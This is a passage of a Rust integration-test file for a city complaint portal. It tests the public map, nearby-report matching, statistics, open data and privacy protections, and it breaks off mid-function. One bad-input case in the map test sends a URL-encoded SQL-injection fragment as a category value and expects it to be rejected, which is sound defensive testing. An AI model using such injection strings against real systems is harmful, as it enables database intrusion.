//! Open by default: the public map, "someone already reported this" with
//! its "me too", the statistics and the open data files — checked for their
//! figures, for what they must never show, for their answers to bad input,
//! and (the files) by readers nobody here wrote: frictionless and GDAL.

use std::path::PathBuf;
use std::process::Command;

use axum::body::Body;
use axum::http::{Request, StatusCode};
use portal112_core::dto::{Role, TicketUpdate};
use portal112_core::{Status, TicketCode};
use portal112_server::store::Millis;
use portal112_server::usecases;
use serde_json::{Value, json};

use crate::common::process::Portal;
use crate::common::{Multipart, TestApp, encode, jpeg};

const MINUTE: Millis = 60_000;
const HOUR: Millis = 60 * MINUTE;
const DAY: Millis = 24 * HOUR;
/// 2026-11-30 12:00 WITA, a Monday.
const NOW: Millis = 1_796_011_200_000;

/// A portal whose public figures are read again at once after a change.
async fn app() -> TestApp {
    TestApp::with_settings(|s| s.public_quiet = std::time::Duration::ZERO).await
}

fn report(category: &str, description: &str, lat: f64, lng: f64) -> Value {
    json!({"category": category, "description": description, "location": {"lat": lat, "lng": lng}})
}

/// Moves `code` through `steps` as an operator, each at its own time (a
/// public note with the statuses a citizen is told why).
async fn walk(app: &TestApp, code: &str, steps: &[(Status, Millis)]) {
    for (status, at) in steps {
        let note = matches!(status, Status::Rejected | Status::OnHold | Status::Resolved).then_some("Catatan publik.");
        step(app, code, *status, note, *at).await;
    }
}

/// The statistics of a seeded set of tickets whose answers are worked out
/// by hand (times in the comments are WITA).
#[tokio::test]
async fn statistics_match_a_seeded_set() {
    let app = app().await;
    // T1 rubbish, Fri 20 Nov 12:00: verified after 30 min, resolved 2 days later.
    let t1 = app.insert_ticket_at(&report("sampah", "Sampah satu", 1.4472, 125.1978), NOW - 10 * DAY).await;
    walk(
        &app,
        &t1,
        &[
            (Status::Verified, NOW - 10 * DAY + 30 * MINUTE),
            (Status::Assigned, NOW - 10 * DAY + HOUR),
            (Status::InProgress, NOW - 9 * DAY),
            (Status::Resolved, NOW - 8 * DAY),
        ],
    )
    .await;
    // T2 rubbish, Sat 28 Nov: verified after 90 min, still open (1-3 days old).
    let t2 = app.insert_ticket_at(&report("sampah", "Sampah dua", 1.4473, 125.1979), NOW - 2 * DAY).await;
    walk(&app, &t2, &[(Status::Verified, NOW - 2 * DAY + 90 * MINUTE)]).await;
    // T3 flood, 21 Oct: nobody answered yet (over 30 days old).
    app.insert_ticket_at(&report("banjir", "Banjir", 1.45, 125.2), NOW - 40 * DAY).await;
    // T4 confidential, this morning: verified after 10 min (under a day old).
    let t4 = app.insert_ticket_at(&report("kekerasan-anak", "Rahasia", 1.45, 125.2), NOW - 5 * HOUR).await;
    walk(&app, &t4, &[(Status::Verified, NOW - 5 * HOUR + 10 * MINUTE)]).await;
    // T5 street light, Sun 22 Nov: rejected after an hour.
    let t5 = app.insert_ticket_at(&report("lampu-jalan", "Lampu", 1.45, 125.2), NOW - 8 * DAY).await;
    walk(&app, &t5, &[(Status::Rejected, NOW - 8 * DAY + HOUR)]).await;

    let rows = app.store.stats_rows().await.expect("rows");
    let stats = serde_json::to_value(portal112_server::stats::figures(&app.state.city, &rows, NOW)).expect("json");
    let all = &stats["all"];
    assert_eq!(
        (all["code"].as_str(), all["received"].as_u64(), all["open"].as_u64(), all["resolved"].as_u64()),
        (Some("all"), Some(5), Some(3), Some(1))
    );
    // First responses 10, 30, 60, 90 min: the median is 45.
    assert_eq!(all["first_response"], json!({"median_minutes": 45, "count": 4}));
    assert_eq!(all["resolution"], json!({"median_minutes": 2 * 24 * 60, "count": 1}));
    assert_eq!(all["open_by_age"], json!({"under_1d": 1, "d1_3": 1, "d3_7": 0, "d7_30": 0, "over_30d": 1}));

    let group = |list: &str, code: &str| -> Value {
        stats[list].as_array().expect("a list").iter().find(|g| g["code"] == code).cloned().expect("the group")
    };
    let dlh = group("agencies", "dlh");
    assert_eq!((dlh["received"].as_u64(), dlh["open"].as_u64(), dlh["resolved"].as_u64()), (Some(2), Some(1), Some(1)));
    assert_eq!(dlh["first_response"], json!({"median_minutes": 60, "count": 2}));
    assert_eq!(dlh["open_by_age"]["d1_3"], 1);
    let dp3a = group("agencies", "dp3a");
    assert_eq!((dp3a["received"].as_u64(), dp3a["open"].as_u64()), (Some(1), Some(1)));
    let bpbd = group("categories", "banjir");
    assert_eq!(bpbd["first_response"], json!({"count": 0}), "no answer yet: no median");
    assert_eq!(group("categories", "lampu-jalan")["resolved"], 0, "rejected is not resolved");
    // Every agency and category of the city file, in its order, even without tickets.
    assert_eq!(stats["agencies"].as_array().map(Vec::len), Some(app.state.city.agencies.len()));
    assert_eq!(stats["agencies"][0]["code"], app.state.city.agencies[0].code);
    assert_eq!(
        stats["weeks"],
        json!([
            {"week": "2026-W43", "received": 1, "resolved": 0},
            {"week": "2026-W47", "received": 2, "resolved": 1},
            {"week": "2026-W48", "received": 1, "resolved": 0},
            {"week": "2026-W49", "received": 1, "resolved": 0},
        ])
    );

    // Over HTTP: the same shape, documented, and cached briefly.
    let response = app.get("/api/v1/stats").await;
    assert_eq!(response.status, StatusCode::OK, "{}", response.text());
    assert_eq!(response.json()["all"]["received"], 5);
    let doc = app.get("/api/v1/openapi.json").await.json();
    for path in ["/api/v1/stats", "/api/v1/map", "/api/v1/reports/nearby", "/api/v1/tickets/{code}/supporters"] {
        assert!(doc["paths"].get(path).is_some(), "{path} is documented");
    }
}

/// One staff change as an operator at `at`, with a public note when given.
async fn step(app: &TestApp, code: &str, status: Status, note: Option<&str>, at: Millis) {
    if app.store.staff_by_username("seed-operator").await.expect("reads").is_none() {
        app.add_staff("seed-operator", Role::Operator, None).await;
    }
    let staff = app.store.staff_by_username("seed-operator").await.expect("reads").expect("the operator");
    let code = TicketCode::parse(code).expect("a code");
    let revision = app.store.ticket(&code).await.expect("reads").expect("the ticket").revision;
    let update = TicketUpdate {
        revision: Some(revision),
        status: Some(status),
        public_note: note.map(str::to_owned),
        ..TicketUpdate::default()
    };
    usecases::tickets::change_ticket(
        app.store.as_ref(),
        &app.state.city,
        &staff,
        &code,
        &update,
        at,
        &app.state.service,
    )
    .await
    .expect("the change is allowed");
}

/// The share forwarded and answered within the service level, against
/// tickets whose stages end in time or late on a clock the test moves (all
/// at normal priority: verify 1 working day, forward 3 from the report,
/// acknowledge 1 and answer 5 from the forwarding; times are WITA).
#[tokio::test]
async fn service_level_share_in_the_statistics() {
    // Monday 23 November 12:00.
    let t0 = NOW - 7 * DAY;
    let app = TestApp::at(NOW).await;
    let new = |category: &'static str| report(category, "Laporan", 1.4472, 125.1978);
    let (v, a, p, r) = (Status::Verified, Status::Assigned, Status::InProgress, Status::Resolved);
    let answer = Some("Petugas menuju lokasi.");
    // A: every stage within hours, resolved: in time.
    let a_code = app.insert_ticket_at(&new("sampah"), t0).await;
    for (status, at) in [(v, t0 + HOUR), (a, t0 + 2 * HOUR), (p, t0 + 3 * HOUR)] {
        step(&app, &a_code, status, None, at).await;
    }
    step(&app, &a_code, r, answer, t0 + 4 * HOUR).await;
    // B: verified on Wednesday, a day after its due time (Tuesday 12:00): late.
    let b_code = app.insert_ticket_at(&new("sampah"), t0).await;
    for (status, at) in [(v, t0 + 2 * DAY), (a, t0 + 2 * DAY + HOUR), (p, t0 + 2 * DAY + 2 * HOUR)] {
        step(&app, &b_code, status, None, at).await;
    }
    step(&app, &b_code, r, answer, t0 + 2 * DAY + 3 * HOUR).await;
    // C: taken up and answered with a public note, not resolved yet: in time.
    let c_code = app.insert_ticket_at(&new("sampah"), t0).await;
    for (status, at) in [(v, t0 + HOUR), (a, t0 + 2 * HOUR)] {
        step(&app, &c_code, status, None, at).await;
    }
    step(&app, &c_code, p, answer, t0 + 3 * HOUR).await;
    // D: taken up, no word to the citizen yet: not answered, not counted.
    let d_code = app.insert_ticket_at(&new("sampah"), t0).await;
    for (status, at) in [(v, t0 + HOUR), (a, t0 + 2 * HOUR), (p, t0 + 3 * HOUR)] {
        step(&app, &d_code, status, None, at).await;
    }
    // E: rejected: never answered by an agency, not counted.
    let e_code = app.insert_ticket_at(&new("sampah"), t0).await;
    step(&app, &e_code, Status::Rejected, Some("Bukan wewenang kota."), t0 + HOUR).await;
    // F: forwarded Monday 14:00, not acknowledged by Tuesday 14:00: the
    // service escalates it on Thursday; answered after that: late.
    let f_code = app.insert_ticket_at(&new("sampah"), t0).await;
    for (status, at) in [(v, t0 + HOUR), (a, t0 + 2 * HOUR)] {
        step(&app, &f_code, status, None, at).await;
    }
    // H: nobody looked at it; it escalates too, and stays unanswered.
    app.insert_ticket_at(&new("sampah"), t0).await;
    let missed = |rows: &[portal112_server::store::StatsRow]| rows.iter().filter(|r| r.sla_missed).count();
    assert_eq!(missed(&app.store.stats_rows().await.expect("rows")), 1, "B only so far");
    let escalated = usecases::service_levels::escalate_late(&app.state, t0 + 3 * DAY).await.expect("escalates");
    assert_eq!(escalated.len(), 2, "F and H are late on Thursday");
    assert_eq!(missed(&app.store.stats_rows().await.expect("rows")), 3, "an escalation alone marks a ticket late");
    step(&app, &f_code, p, answer, t0 + 3 * DAY + HOUR).await;
    // G, another agency: a flood handled within the hour.
    let g_code = app.insert_ticket_at(&new("banjir"), t0).await;
    for (status, at) in [(v, t0 + 10 * MINUTE), (a, t0 + 20 * MINUTE), (p, t0 + 30 * MINUTE)] {
        step(&app, &g_code, status, None, at).await;
    }
    step(&app, &g_code, r, answer, t0 + 40 * MINUTE).await;

    let response = app.get("/api/v1/stats").await;
    assert_eq!(response.status, StatusCode::OK, "{}", response.text());
    let stats = response.json();
    let group = |list: &str, code: &str| -> Value {
        stats[list].as_array().expect("a list").iter().find(|g| g["code"] == code).cloned().expect("the group")
    };
    assert_eq!(group("agencies", "dlh")["service_level"], json!({"count": 4, "kept": 2, "percent": 50}), "{stats}");
    assert_eq!(group("agencies", "bpbd")["service_level"], json!({"count": 1, "kept": 1, "percent": 100}));
    assert_eq!(
        group("agencies", "dp3a")["service_level"],
        json!({"count": 0, "kept": 0}),
        "nothing answered: no share"
    );
    assert_eq!(stats["all"]["service_level"], json!({"count": 5, "kept": 3, "percent": 60}));
    assert_eq!(group("categories", "sampah")["service_level"]["kept"], 2);
    // H's escalation is the service's doing, not staff responding.
    assert_eq!(group("agencies", "dlh")["first_response"]["count"], 6);
    assert_eq!(group("agencies", "dlh")["received"], 7);
    let doc = app.get("/api/v1/openapi.json").await.json();
    assert!(doc["components"]["schemas"]["ServiceShare"].is_object(), "documented");
}

/// The map: the area, the filters, confidential cases never, sensitive
/// ones coarse, text only once verified, clusters when dense.
#[tokio::test]
async fn the_public_map() {
    let app = app().await;
    let fresh = app.create_report(&report("sampah", "TEKS-BELUM-DIVERIFIKASI", 1.44721, 125.19781)).await;
    let checked = app.create_report(&report("sampah", "TEKS-SUDAH-DIVERIFIKASI", 1.4480, 125.1990)).await;
    app.move_ticket(&checked, &json!({"status": "verified"})).await;
    let secret = app.create_report(&report("kekerasan-perempuan", "RAHASIA", 1.4475, 125.1975)).await;
    let sensitive = app.create_report(&report("odgj", "ODGJ di depan toko", 1.45123, 125.18345)).await;
    app.move_ticket(&sensitive, &json!({"status": "verified"})).await;
    let far = app.create_report(&report("banjir", "Banjir jauh", 1.55, 125.25)).await;

    let city = "/api/v1/map?bbox=1.39,125.02,1.60,125.31";
    let answer = app.get(city).await;
    assert_eq!(answer.status, StatusCode::OK, "{}", answer.text());
    let body = answer.json();
    let text = answer.text();
    assert_eq!(body["total"], 4);
    let codes: Vec<&str> =
        body["tickets"].as_array().expect("tickets").iter().filter_map(|t| t["code"].as_str()).collect();
    for code in [&fresh, &checked, &sensitive, &far] {
        assert!(codes.contains(&code.as_str()), "{code} on the map: {text}");
    }
    assert!(!text.contains(&secret) && !text.contains("RAHASIA") && !text.contains("kekerasan"), "{text}");
    assert!(!text.contains("TEKS-BELUM-DIVERIFIKASI"), "unverified text is not public: {text}");
    assert!(text.contains("TEKS-SUDAH-DIVERIFIKASI"), "{text}");
    let odgj =
        body["tickets"].as_array().expect("tickets").iter().find(|t| t["code"] == sensitive.as_str()).expect("odgj");
    // Only the kelurahan: the centre of Kadoodan (Madidir), the nearest to the point.
    assert_eq!(
        (odgj["lat"].as_f64(), odgj["lng"].as_f64(), odgj["coarse"].as_bool()),
        (Some(1.4549), Some(125.1788), Some(true))
    );
    assert_eq!((odgj["district"].as_str(), odgj["village"].as_str()), (Some("71.72.02"), Some("71.72.02.1004")));
    assert!(!text.contains("1.45123") && !text.contains("125.18345"), "{text}");

    // The tracking page by code and Open311 show what the map shows, no
    // more: the map hands out every code.
    let page = |code: &str| format!("/api/v1/tickets/{code}");
    let unverified = app.get(&page(&fresh)).await.json();
    assert!(unverified.get("description").is_none(), "not verified: no text: {unverified}");
    assert_eq!(unverified["location"], json!({"lat": 1.44721, "lng": 125.19781}));
    let verified = app.get(&page(&checked)).await.json();
    assert_eq!(verified["description"], "TEKS-SUDAH-DIVERIFIKASI");
    let odgj_page = app.get(&page(&sensitive)).await;
    let odgj_json = odgj_page.json();
    assert_eq!(odgj_json["location"], json!({"lat": 1.4549, "lng": 125.1788}), "{odgj_json}");
    assert_eq!(
        (odgj_json["location_coarse"].as_bool(), odgj_json["village"]["name"].as_str()),
        (Some(true), Some("Kadoodan"))
    );
    assert!(!odgj_page.text().contains("1.45123") && !odgj_page.text().contains("125.18345"), "{}", odgj_page.text());
    let open311 = |code: &str| format!("/open311/v2/requests/{}.json", encode(code));
    let unverified = app.get(&open311(&fresh)).await.json();
    assert!(unverified[0].get("description").is_none(), "{unverified}");
    let odgj_311 = app.get(&open311(&sensitive)).await.json();
    assert_eq!(
        (odgj_311[0]["lat"].as_f64(), odgj_311[0]["long"].as_f64()),
        (Some(1.4549), Some(125.1788)),
        "{odgj_311}"
    );
    assert_eq!(odgj_311[0]["address"], "Kel. Kadoodan, Kec. Madidir");
    let listed = app.get("/open311/v2/requests.json").await.text();
    assert!(!listed.contains("TEKS-BELUM-DIVERIFIKASI") && !listed.contains("1.45123"), "{listed}");

    // A small area, a filter, a cluster.
    let small = app.get("/api/v1/map?bbox=1.44,125.19,1.45,125.20").await.json();
    assert_eq!(small["total"], 2);
    let filtered = app.get(&format!("{city}&category=banjir&agency=bpbd&status=received")).await.json();
    assert_eq!(filtered["total"], 1);
    assert_eq!(filtered["tickets"][0]["code"], far.as_str());
    let dense = app.get(&format!("{city}&limit=1")).await.json();
    assert_eq!(dense["total"], 4);
    let shown = dense["tickets"].as_array().map_or(0, Vec::len) as u64
        + dense["clusters"].as_array().map_or(0, |c| c.iter().filter_map(|c| c["count"].as_u64()).sum());
    assert_eq!(shown, 4, "every ticket is shown or counted: {dense}");
    // Asking about an ever smaller area around the sensitive report's true
    // point tells nothing: the area is matched against the coarse place.
    let probe = app.get("/api/v1/map?bbox=1.4511,125.1833,1.4513,125.1836").await.json();
    assert_eq!(probe["total"], 0, "{probe}");

    // Bad input: 4xx in both languages, never a 5xx.
    for (query, status, code, field) in [
        ("", StatusCode::UNPROCESSABLE_ENTITY, "bbox_invalid", "bbox"),
        ("bbox=1,2,3", StatusCode::UNPROCESSABLE_ENTITY, "bbox_invalid", "bbox"),
        ("bbox=1.6,125.0,1.3,125.3", StatusCode::UNPROCESSABLE_ENTITY, "bbox_invalid", "bbox"),
        ("bbox=NaN,1,2,3", StatusCode::UNPROCESSABLE_ENTITY, "bbox_invalid", "bbox"),
        ("bbox=1e999,1,2,3", StatusCode::UNPROCESSABLE_ENTITY, "bbox_invalid", "bbox"),
        ("bbox=1,2,3,4&limit=0", StatusCode::UNPROCESSABLE_ENTITY, "out_of_range", "limit"),
        ("bbox=1,2,3,4&limit=99999999999", StatusCode::UNPROCESSABLE_ENTITY, "out_of_range", "limit"),
        ("bbox=1,2,3,4&category=%27%3B--", StatusCode::UNPROCESSABLE_ENTITY, "unknown_category", "category"),
        ("bbox=1,2,3,4&agency=x", StatusCode::UNPROCESSABLE_ENTITY, "unknown_agency", "agency"),
        ("bbox=1,2,3,4&status=open", StatusCode::UNPROCESSABLE_ENTITY, "invalid_value", "status"),
        ("bbox=1,2,3,4&district=71.72.99", StatusCode::UNPROCESSABLE_ENTITY, "unknown_district", "district"),
        ("bbox=1,2,3,4&bbox=1,2,3,4", StatusCode::BAD_REQUEST, "invalid_json", "query"),
    ] {
        let id = app.get(&format!("/api/v1/map?{query}")).await;
        id.assert_error(status, code, Some(field));
        let en = app
            .send(
                Request::get(format!("/api/v1/map?{query}"))
                    .header("accept-language", "en")
                    .body(Body::empty())
                    .expect("request"),
            )
            .await;
        assert_eq!(en.status, status, "{query}: {}", en.text());
        assert_ne!(id.json()["error"]["message"], en.json()["error"]["message"], "{query}: a message in each language");
    }
}

/// "Someone already reported this" and "me too".
#[tokio::test]
async fn someone_already_reported_this() {
    let app = app().await;
    let open = app.create_report(&report("sampah", "Sampah di ujung jalan", 1.4472, 125.1978)).await;
    // 100 m north: near. 300 m: not near. Another category or closed: not offered.
    app.create_report(&report("sampah", "Jauh", 1.4499, 125.1978)).await;
    app.create_report(&report("banjir", "Banjir", 1.4472, 125.1978)).await;
    let done = app.create_report(&report("sampah", "Sudah selesai", 1.4473, 125.1978)).await;
    app.move_ticket(&done, &json!({"status": "rejected", "public_note": "Bukan wewenang kota."})).await;
    app.create_report(&report("kekerasan-anak", "RAHASIA", 1.4472, 125.1978)).await;

    let near = app.get("/api/v1/reports/nearby?lat=1.4481&lng=125.1978&category=sampah").await;
    assert_eq!(near.status, StatusCode::OK, "{}", near.text());
    let list = near.json();
    assert_eq!(list.as_array().map(Vec::len), Some(1), "{list}");
    assert_eq!(list[0]["code"], open.as_str());
    assert_eq!(list[0]["distance_m"], 100);
    assert!(list[0].get("summary").is_none(), "not verified: no text");
    let secret = app.get("/api/v1/reports/nearby?lat=1.4472&lng=125.1978&category=kekerasan-anak").await;
    assert_eq!(secret.json(), json!([]), "a confidential category has nothing to offer");
    // A sensitive category's ticket is offered to people in its kelurahan
    // (Kadoodan), wherever in it they stand, and to nobody outside it, even
    // a little closer to its point.
    let odgj = app.create_report(&report("odgj", "ODGJ di depan toko", 1.45123, 125.18345)).await;
    let inside = app.get("/api/v1/reports/nearby?lat=1.4549&lng=125.1788&category=odgj").await.json();
    assert_eq!(
        (inside.as_array().map(Vec::len), inside[0]["code"].as_str()),
        (Some(1), Some(odgj.as_str())),
        "{inside}"
    );
    assert_eq!(inside[0]["distance_m"], 0, "measured to the kelurahan, in whole kilometres");
    let outside = app.get("/api/v1/reports/nearby?lat=1.4470&lng=125.1840&category=odgj").await.json();
    assert_eq!(outside, json!([]), "Bitung Barat Satu is another kelurahan");

    // Me too: counted once per phone, shown to staff.
    let path = format!("/api/v1/tickets/{open}/supporters");
    let me_too = |key: &'static str| {
        Request::post(path.clone()).header("idempotency-key", key).body(Body::empty()).expect("request")
    };
    let first = app.send(me_too("telepon-warga-0001")).await;
    assert_eq!(first.status, StatusCode::CREATED, "{}", first.text());
    assert_eq!(first.json()["supporters"], 1);
    let again = app.send(me_too("telepon-warga-0001")).await;
    assert_eq!(
        (again.status, again.json()["supporters"].as_u64(), again.json()["added"].as_bool()),
        (StatusCode::OK, Some(1), Some(false))
    );
    let other = app.send(me_too("telepon-warga-0002")).await;
    assert_eq!(other.json()["supporters"], 2);
    let token = app.operator().await;
    let staff_view = app.get_as(&token, &format!("/api/v1/staff/tickets/{open}")).await.json();
    assert_eq!(staff_view["supporters"], 2);
    let near = app.get("/api/v1/reports/nearby?lat=1.4481&lng=125.1978&category=sampah").await.json();
    assert_eq!(near[0]["supporters"], 2);

    // Bad input, both endpoints: 4xx with a message, never a 5xx.
    app.send(Request::post(path.clone()).body(Body::empty()).expect("request")).await.assert_error(
        StatusCode::UNPROCESSABLE_ENTITY,
        "required",
        Some("Idempotency-Key"),
    );
    app.send(me_too("x")).await.assert_error(
        StatusCode::BAD_REQUEST,
        "idempotency_key_invalid",
        Some("Idempotency-Key"),
    );
    app.send(
        Request::post(format!("/api/v1/tickets/{done}/supporters"))
            .header("idempotency-key", "telepon-warga-0001")
            .body(Body::empty())
            .expect("request"),
    )
    .await
    .assert_error(StatusCode::CONFLICT, "ticket_not_open", None);
    app.send(
        Request::post("/api/v1/tickets/zzz/supporters")
            .header("idempotency-key", "telepon-warga-0001")
            .body(Body::empty())
            .expect("request"),
    )
    .await
    .assert_error(StatusCode::BAD_REQUEST, "ticket_code_malformed", Some("code"));
    for (query, code, field) in [
        ("lat=1.4481&lng=125.1978", "required", "category"),
        ("lat=abc&lng=125.1978&category=sampah", "invalid_coordinates", "lat"),
        ("lat=1.4481&category=sampah", "required", "lng"),
        ("lat=91&lng=125.1978&category=sampah", "invalid_coordinates", "location"),
        ("lat=1.0&lng=125.0&category=sampah", "location_outside_city", "location"),
        ("lat=1.4481&lng=125.1978&category=tidak-ada", "unknown_category", "category"),
    ] {
        let r = app.get(&format!("/api/v1/reports/nearby?{query}")).await;
        r.assert_error(StatusCode::UNPROCESSABLE_ENTITY, code, Some(field));
    }
}

/// A report with a name, phone and e-mail, and a confidential one: nothing
/// of either shows in any public answer — the map, nearby, statistics, the
/// open data files, Open311 and the app's public pages.
#[tokio::test]
async fn nothing_private_anywhere_public() {
    let app = app().await;
    let mut named = report("sampah", "Sampah menumpuk depan rumah", 1.4472, 125.1978);
    named["contact"] = json!({"name": "Yohanis Pangemanan", "phone": "0812-7777-3131", "email": "yohanis.p@contoh.id"});
    named["address"] = "Jl. Sudirman dekat pasar".into();
    let code = app.create_report(&named).await;
    app.move_ticket(&code, &json!({"status": "verified", "internal_note": "CATATAN-INTERNAL-RAHASIA"})).await;
    let mut secret = report("kekerasan-perempuan", "KDRT-DI-RUMAH-BIRU", 1.45151, 125.18383);
    secret["contact"] = json!({"name": "Maria Wowor", "phone": "0813-2222-4545"});
    secret["address"] = "Lorong Cempaka 3".into();
    let secret_code = app.create_report(&secret).await;
    app.move_ticket(&secret_code, &json!({"status": "verified"})).await;

    let secret_compact = TicketCode::parse(&secret_code).expect("code");
    let forbidden = [
        "Yohanis",
        "Pangemanan",
        "0812-7777-3131",
        "7777",
        "yohanis.p@contoh.id",
        "CATATAN-INTERNAL-RAHASIA",
        "Maria",
        "Wowor",
        "0813-2222-4545",
        "2222",
        "KDRT-DI-RUMAH-BIRU",
        "Cempaka",
        "1.45151",
        "125.18383",
        &secret_code,
        secret_compact.compact(),
    ];
    let mut answers: Vec<(String, String)> = Vec::new();
    for uri in [
        "/api/v1/map?bbox=1.39,125.02,1.60,125.31".to_owned(),
        "/api/v1/map?bbox=1.45,125.18,1.46,125.19&category=kekerasan-perempuan".to_owned(),
        "/api/v1/reports/nearby?lat=1.4472&lng=125.1978&category=sampah".to_owned(),
        "/api/v1/reports/nearby?lat=1.45151&lng=125.18383&category=kekerasan-perempuan".to_owned(),
        "/api/v1/stats".to_owned(),
        "/open-data/reports.csv".to_owned(),
        "/open-data/reports.geojson".to_owned(),
        "/open-data/datapackage.json".to_owned(),
        "/open311/v2/requests.json".to_owned(),
        "/open311/v2/requests.xml".to_owned(),
        format!("/open311/v2/requests/{}.json", encode(&code)),
        format!("/api/v1/tickets/{code}"),
        "/".to_owned(),
        "/peta".to_owned(),
        "/statistik".to_owned(),
    ] {
        let r = app.get(&uri).await;
        assert!(r.status.is_success() || r.status == StatusCode::NOT_FOUND, "{uri}: {}", r.status);
        answers.push((uri, r.text()));
    }
    for (uri, text) in &answers {
        for s in forbidden {
            assert!(!text.contains(s), "{uri} shows {s:?}: {text}");
        }
    }
    // The non-confidential report is there, with its verified text.
    let csv = &answers.iter().find(|(u, _)| u == "/open-data/reports.csv").expect("csv").1;
    assert!(csv.contains(&code) && csv.contains("Sampah menumpuk depan rumah"), "{csv}");
}

/// Hiding a verified ticket's details, on SQLite.
#[tokio::test]
async fn staff_hide_a_tickets_details_sqlite() {
    staff_hide_a_tickets_details(app().await).await;
}

/// Hiding a verified ticket's details, on PostgreSQL.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn staff_hide_a_tickets_details_postgres() {
    staff_hide_a_tickets_details(TestApp::on_postgres(|s| s.public_quiet = std::time::Duration::ZERO).await).await;
}

/// `PUT .../details` with a token, optionally in English.
async fn put_details(app: &TestApp, token: &str, code: &str, body: &Value, en: bool) -> crate::common::TestResponse {
    let mut request = Request::put(format!("/api/v1/staff/tickets/{code}/details"))
        .header("authorization", format!("Bearer {token}"))
        .header("content-type", "application/json");
    if en {
        request = request.header("accept-language", "en");
    }
    app.send(request.body(Body::from(serde_json::to_vec(body).expect("json"))).expect("request")).await
}

/// An operator hides a verified report's description, landmark and photos:
/// the tracking page, the map, nearby, the open data and Open311 keep only
/// the category, status and place, staff still see everything, and the
/// change is in the history and the audit log; showing them again brings
/// them back. Agency staff may not; stale revisions and bad bodies get a
/// 4xx with a message in each language.
async fn staff_hide_a_tickets_details(app: TestApp) {
    let mut body = report("sampah", "NAMA-TETANGGA-DI-URAIAN", 1.4472, 125.1978);
    body["address"] = "PATOKAN-RUMAH-HIJAU".into();
    let created = app
        .send(
            Multipart::new()
                .json("report", &body)
                .file("photo", "foto.jpg", "image/jpeg", &jpeg(64, 48))
                .request("/api/v1/reports"),
        )
        .await;
    assert_eq!(created.status, StatusCode::CREATED, "{}", created.text());
    let code = created.json()["code"].as_str().expect("code").to_owned();
    let verified = app.move_ticket(&code, &json!({"status": "verified"})).await;
    let photo = verified["photos"][0].as_str().expect("a photo").to_owned();
    let token = app.operator().await;

    let city = "/api/v1/map?bbox=1.39,125.02,1.60,125.31";
    let nearby = "/api/v1/reports/nearby?lat=1.4473&lng=125.1978&category=sampah";
    let public = [
        format!("/api/v1/tickets/{code}"),
        city.to_owned(),
        nearby.to_owned(),
        "/open-data/reports.csv".to_owned(),
        "/open-data/reports.geojson".to_owned(),
        "/open311/v2/requests.json".to_owned(),
        format!("/open311/v2/requests/{}.xml", encode(&code)),
    ];
    let secrets = ["NAMA-TETANGGA-DI-URAIAN", "PATOKAN-RUMAH-HIJAU", photo.as_str()];
    // Verified and not hidden: the details are public.
    let tracked = app.get(&public[0]).await.json();
    assert_eq!(tracked["description"], "NAMA-TETANGGA-DI-URAIAN");
    assert!(app.get(city).await.text().contains("NAMA-TETANGGA-DI-URAIAN"));

    // Agency staff may not decide what the public reads.
    let agency = app.staff("petugas-dlh", Role::Agency, Some("dlh")).await;
    let revision = verified["revision"].as_i64().expect("revision");
    put_details(&app, &agency, &code, &json!({"revision": revision, "hidden": true}), false).await.assert_error(
        StatusCode::FORBIDDEN,
        "forbidden",
        None,
    );

    let hidden = put_details(&app, &token, &code, &json!({"revision": revision, "hidden": true}), false).await;
    assert_eq!(hidden.status, StatusCode::OK, "{}", hidden.text());
    let staff_view = hidden.json();
    assert_eq!(staff_view["details_hidden"], true);
    assert_eq!(staff_view["revision"], revision + 1);
    assert_eq!(staff_view["description"], "NAMA-TETANGGA-DI-URAIAN", "staff still see it");
    assert_eq!(staff_view["photos"][0], photo.as_str());
    let last = staff_view["events"].as_array().and_then(|e| e.last()).cloned().expect("a history entry");
    assert_eq!((last["actor"].as_str(), last["to_status"].as_str()), (Some("fixture-operator"), Some("verified")));
    assert!(last["internal_note"].as_str().is_some_and(|n| n.contains("disembunyikan")), "{last}");
    let audit = app.get_as(&app.staff("admin-audit", Role::Admin, None).await, "/api/v1/staff/audit").await.json();
    assert!(audit.to_string().contains("ticket_details_hidden"), "{audit}");

    for uri in &public {
        let r = app.get(uri).await;
        assert_eq!(r.status, StatusCode::OK, "{uri}: {}", r.text());
        let text = r.text();
        for s in secrets {
            assert!(!text.contains(s), "{uri} still shows {s:?} while hidden: {text}");
        }
        assert!(text.contains(&code) || text.contains(TicketCode::parse(&code).expect("code").compact()), "{uri}");
    }
    // What stays: the category, the status, the place.
    let tracked = app.get(&public[0]).await.json();
    assert_eq!((tracked["category"]["code"].as_str(), tracked["status"].as_str()), (Some("sampah"), Some("verified")));
    assert!(tracked.get("description").is_none_or(Value::is_null), "{tracked}");
    assert_eq!(tracked["location"]["lat"], 1.4472);
    let timeline = tracked["timeline"].to_string();
    assert!(!timeline.contains("disembunyikan"), "the note is for staff only: {timeline}");
    let near = app.get(nearby).await.json();
    assert_eq!(near[0]["code"], code.as_str(), "still offered as 'someone already reported this'");
    assert!(near[0].get("summary").is_none(), "{near}");

    // Asking again for the same state changes nothing.
    let again = put_details(&app, &token, &code, &json!({"revision": revision, "hidden": true}), false).await;
    assert_eq!((again.status, again.json()["revision"].as_i64()), (StatusCode::OK, Some(revision + 1)));

    // A stale revision, a missing field, a wrong type, an unknown ticket: 4xx in both languages.
    for en in [false, true] {
        let stale = put_details(&app, &token, &code, &json!({"revision": revision, "hidden": false}), en).await;
        let body = stale.assert_error(StatusCode::CONFLICT, "revision_conflict", Some("revision"));
        assert_eq!(body["error"]["revision"], revision + 1, "the current revision, to try again on");
        put_details(&app, &token, &code, &json!({"hidden": false}), en).await.assert_error(
            StatusCode::UNPROCESSABLE_ENTITY,
            "required",
            Some("revision"),
        );
        put_details(&app, &token, &code, &json!({"revision": revision + 1}), en).await.assert_error(
            StatusCode::UNPROCESSABLE_ENTITY,
            "required",
            Some("hidden"),
        );
        let wrong = put_details(&app, &token, &code, &json!({"revision": revision + 1, "hidden": "ya"}), en).await;
        assert!(wrong.status.is_client_error(), "{}", wrong.text());
        put_details(&app, &token, &code, &json!({"revision": -1, "hidden": false}), en).await.assert_error(
            StatusCode::UNPROCESSABLE_ENTITY,
            "invalid_value",
            Some("revision"),
        );
        let unknown = crate::common::random_code().to_string();
        put_details(&app, &token, &unknown, &json!({"revision": 1, "hidden": true}), en).await.assert_error(
            StatusCode::NOT_FOUND,
            "ticket_not_found",
            None,
        );
    }
    let id = put_details(&app, &token, &code, &json!({"revision": revision, "hidden": false}), false).await.json();
    let en = put_details(&app, &token, &code, &json!({"revision": revision, "hidden": false}), true).await.json();
